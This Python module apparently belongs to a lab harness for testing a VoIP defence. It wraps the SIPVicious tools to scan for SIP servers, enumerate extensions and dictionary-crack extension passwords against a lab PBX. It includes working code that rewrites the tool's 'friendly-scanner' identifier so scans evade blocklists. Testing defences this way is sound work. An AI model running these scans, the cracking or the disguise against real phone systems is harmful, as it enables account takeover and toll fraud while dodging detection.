"""SIPVicious, as it is used against real systems, with every run bounded in time."""

import subprocess
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Final

from ringfence.lab.network import PBX_ADDRESS, Host
from ringfence.lab.sip import Message
from ringfence.lab.softphone import Softphone

DISGUISE: Final = "Softphone 5.1"
"""SIPVicious calls itself "friendly-scanner", which every blocklist knows; an attacker changes that word first."""

_DISGUISED: Final = """
import importlib, sys
sys.path.insert(0, "/usr/share/sipvicious")
from sipvicious.libs import svhelper
make = svhelper.makeRequest
tool, name = sys.argv[1:3]
make.__defaults__ = tuple(name if value == "friendly-scanner" else value for value in make.__defaults__)
sys.argv = [tool, *sys.argv[3:]]
importlib.import_module("sipvicious." + tool).main()
"""


@dataclass(frozen=True, slots=True)
class Attack:
    """What an attacker's tool reported and how long it ran."""

    seconds: float
    report: str
    was_cut_off: bool

    def found(self, text: str) -> bool:
        """Whether the tool's table of results holds this text."""
        return any(text in line for line in self.report.splitlines() if line.startswith("|"))


def guess(phone: Softphone) -> tuple[Message | None, Message | None]:
    """One wrong password for a challenge of its own: the challenge and what followed, None for silence."""
    uri, headers = f"sip:{phone.account.domain}", phone.headers("REGISTER", phone.account.aor)
    challenge = phone.silent("REGISTER", uri, headers)
    if challenge is None or challenge.status != 401:
        return challenge, None
    return challenge, phone.silent("REGISTER", uri, phone.answered(challenge, "REGISTER", uri, headers), wait=0.5)


def map_servers(host: Host, home: Path, seconds: float = 5.0, disguise: str = DISGUISE) -> Attack:
    """svmap: find SIP servers and their make."""
    return _run(host, home, "svmap", ["-p", "5060"], seconds, disguise)


def enumerate_extensions(
    host: Host,
    home: Path,
    extensions: str = "100-999",
    method: str = "REGISTER",
    seconds: float = 8.0,
    disguise: str = DISGUISE,
) -> Attack:
    """svwar: find out which extensions exist."""
    options = ["-e", extensions, "-m", method, "--force", "-t", "0.005", "--maximumtime", "2"]
    return _run(host, home, "svwar", options, seconds, disguise)


def crack_password(
    host: Host,
    home: Path,
    extension: str,
    words: list[str],
    seconds: float = 20.0,
    disguise: str = DISGUISE,
    at: tuple[str, int] = (PBX_ADDRESS, 5060),
) -> Attack:
    """svcrack: guess the password of one extension from a word list, at this address and port."""
    home.mkdir(parents=True, exist_ok=True)
    dictionary = home / "words.txt"
    dictionary.write_text("\n".join(words) + "\n")
    options = ["-u", extension, "-d", str(dictionary), "-t", "0.005", "--maximumtime", "3", "-p", str(at[1])]
    return _run(host, home, "svcrack", options, seconds, disguise, at[0])


def _run(
    host: Host, home: Path, tool: str, options: list[str], seconds: float, disguise: str, server: str = PBX_ADDRESS
) -> Attack:
    home.mkdir(parents=True, exist_ok=True)
    begun = time.monotonic()
    program = ["/usr/bin/python3", "-c", _DISGUISED, tool, disguise] if disguise else [tool]
    argv = [*program, *options, "-b", host.address, "-x", host.address, server]
    command = host.command("env", f"HOME={home}", "COLUMNS=200", *argv)
    with subprocess.Popen(
        command, process_group=0, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT
    ) as process:
        try:
            report, _ = process.communicate(timeout=seconds)
            cut_off = False
        except subprocess.TimeoutExpired:
            process.kill()
            report, _ = process.communicate()
            cut_off = True
    return Attack(time.monotonic() - begun, report.decode("utf-8", "replace"), cut_off)
